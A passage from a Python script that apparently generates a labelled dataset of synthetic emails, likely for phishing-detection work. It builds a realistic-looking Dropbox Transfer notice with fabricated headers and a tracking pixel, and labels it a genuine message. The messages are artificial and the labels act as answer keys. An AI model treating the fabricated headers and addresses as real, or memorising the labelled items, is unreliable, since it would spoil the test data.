    rcpt = "anais.ledu@kerlann-industries.fr"
    link = "https://www.dropbox.com/t/" + rnd("l26l", 20, ALNUM)
    mf = f"bounces+{digits('l26mf', 7)}-{hexs('l26mf2', 4)}-{rcpt.replace('@', '=')}@em-s.dropbox.com"
    top, bottom = m365_in(rcpt, t, "149.72.154.233", "o1.em-s.dropbox.com", mf, "pass",
                          ("dropbox.com", "pass"), ("pass", "none"), "dropbox.com", ("pass", "100"), "l26",
                          ctry="US", lang="fr", bcl=1)
    note = ("Bonjour Anaïs, voici les photos HD du stand au salon SITL (sélection de 48 images, retouchées). "
            "Bonne réception ! Morgane")
    text = f"""Morgane Le Lay sent you files

"{note}"

Photos SITL 2025 - stand Kerlann
48 files · 612 MB · Expires in 7 days

View files: {link}

Dropbox Transfer lets anyone send large files, even to people without a
Dropbox account.

© 2025 Dropbox, Inc. 1800 Owens St, San Francisco, CA 94158
"""
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;background:#f7f5f2;font-family:'Sharp Grotesk',Helvetica,Arial,sans-serif;color:#1e1919">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:32px 0">
<table width="520" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="padding:28px 32px 0"><img src="https://cfl.dropboxstatic.com/static/images/emails/glyph/glyph_34@2x.png" width="34" alt="Dropbox"></td></tr>
<tr><td style="padding:20px 32px 0;font-size:24px;font-weight:bold">Morgane Le Lay sent you files</td></tr>
<tr><td style="padding:16px 32px 0;font-size:15px;line-height:22px;color:#52514e">&ldquo;{htmllib.escape(note)}&rdquo;</td></tr>
<tr><td style="padding:20px 32px 0"><table cellpadding="12" style="border:1px solid #e6e4e1;width:100%"><tr><td style="font-size:15px"><b>Photos SITL 2025 - stand Kerlann</b><br><span style="color:#736c64;font-size:13px">48 files &middot; 612 MB &middot; Expires in 7 days</span></td></tr></table></td></tr>
<tr><td style="padding:24px 32px"><a href="{link}" style="background:#0061fe;color:#fff;padding:12px 28px;text-decoration:none;font-size:15px;border-radius:4px">View files</a></td></tr>
<tr><td style="padding:0 32px 28px;font-size:12px;color:#736c64">Dropbox Transfer lets anyone send large files, even to people without a Dropbox account.<br><br>&copy; 2025 Dropbox, Inc. 1800 Owens St, San Francisco, CA 94158</td></tr>
</table></td></tr></table>
<img src="https://u{digits('l26u', 7)}.ct.sendgrid.net/wf/open?upn=u001.{rnd('l26o', 90, ALNUM)}" width="1" height="1" alt="">
</body></html>
"""
    sender = f"""\
{dkim('dropbox.com', 'scph0223', 'l26', t, h='content-type:from:mime-version:subject:reply-to:to:cc:content-type:from:subject:to')}
Received: by recvd-6d9c58f5c8-tl2vq with SMTP id recvd-6d9c58f5c8-tl2vq-1-67EEA4F5-12
\t2025-04-03 15:07:33.305821922 +0000 UTC m=+2239384.508724376
Received: from {rnd('l26r', 12, ALNUM)} (unknown)
\tby geopod-ismtpd-7 (SG) with HTTP
\tid {rnd('l26sg', 22, ALNUM)}
\tThu, 03 Apr 2025 15:07:33.201 +0000 (UTC)
Date: Thu, 03 Apr 2025 15:07:33 +0000 (UTC)
From: Dropbox <no-reply@dropbox.com>
Reply-To: Morgane Le Lay <morgane@studio-lelay.fr>
Message-ID: <{rnd('l26sg', 22, ALNUM)}@geopod-ismtpd-7>
Subject: Morgane Le Lay sent you files
To: {rcpt}
X-SG-EID: u001.{rnd('l26eid', 100)}
X-Entity-ID: u001.{rnd('l26ent', 22)}==
MIME-Version: 1.0
"""
    emit("bulk", "dropbox-transfer-event-photos-known-designer", "genuine Dropbox Transfer from the organisation's usual designer (Reply-To her own studio domain): event photos, no sign-in pitch",
         top, sender, alt(hexs("l26alt", 60), text, html), bottom)


# ==========================================================================


def main() -> None:
    builders = [f for name, f in list(globals().items()) if callable(f) and name[:2] in ("p_", "l_")]
    for build in builders:
        build()
    write_manifest()


if __name__ == "__main__":
    main()
